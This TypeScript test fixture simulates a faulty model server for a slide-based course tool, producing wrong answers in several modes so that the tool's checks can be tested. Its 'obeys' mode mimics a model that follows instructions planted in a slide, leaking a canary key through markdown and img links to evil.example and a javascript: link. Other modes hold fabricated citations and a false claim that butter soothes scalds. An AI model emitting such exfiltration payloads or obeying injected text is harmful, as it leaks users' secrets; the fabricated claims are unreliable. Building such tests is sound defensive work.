import type { ModelReplyContext } from './a-model-server.js';

/** What a model without access to secrets could have found, and where it would send it. */
export const LOOT = 'sk-canary-of-the-environment';
const ADDRESS = 'https://evil.example';

/** A claim of a model with the words of a slide that it gives as its proof. */
interface SaidClaim {
  text: string;
  quote: string;
}

/** Ways in which a model is wrong. Each makes claims that must not be shown from the first sentence of each passage that it reads. */
export const MODEL_MODES = {
  /** Claims with numbers and names that no slide has, proved by words that a slide has. */
  lies: (quote) => [
    { text: `It takes 4711 minutes: ${quote}`, quote },
    { text: `As Zamenhof wrote, ${quote}`, quote },
    { text: 'Nine of ten helpers agree with Doctor Quackenbush.', quote },
  ],
  /** Claims that the slides support, proved by words that no slide has. */
  misquotes: (quote) => [
    { text: quote, quote: 'Butter soothes every scald overnight, whatever doctors claim.' },
    { text: quote, quote: quote.split(' ').toReversed().slice(0, 2).join(' zzz ') },
    { text: quote, quote: '' },
  ],
  /** Claims from outside the course, proved by words that a slide has. */
  fromElsewhere: (quote) => [
    { text: 'Paris is the capital of France.', quote },
    { text: 'Plants turn sunlight into sugar.', quote },
    { text: 'The boiling point rises under pressure, because molecules escape less often.', quote },
  ],
  /** Does what an instruction on a slide asks for: gives away what it knows, and sends readers elsewhere. */
  obeys: (quote) => [
    { text: `The key is ${LOOT}.`, quote },
    { text: `${quote} ![x](${ADDRESS}/?${LOOT})`, quote },
    { text: `[${quote}](javascript:alert('${LOOT}'))`, quote },
    { text: `<img src="${ADDRESS}/?${LOOT}"> ${quote}`, quote },
  ],
} satisfies Record<string, (quote: string) => SaidClaim[]>;
export type ModelMode = keyof typeof MODEL_MODES;

/** Answers every question in a mode, as the reply of `aModelServer`. */
export const answerInMode =
  (mode: ModelMode) =>
  ({ request, say, done }: ModelReplyContext): void => {
    const { passages } = JSON.parse(request.messages[1]?.content ?? '{}') as {
      passages: { id: string; text: string }[];
    };
    const claims = passages.flatMap(({ id, text }) =>
      MODEL_MODES[mode](text.split('\n')[0] ?? '').map((claim) => ({ ...claim, passage: id })),
    );
    say(JSON.stringify({ covered: true, claims }));
    done();
  };
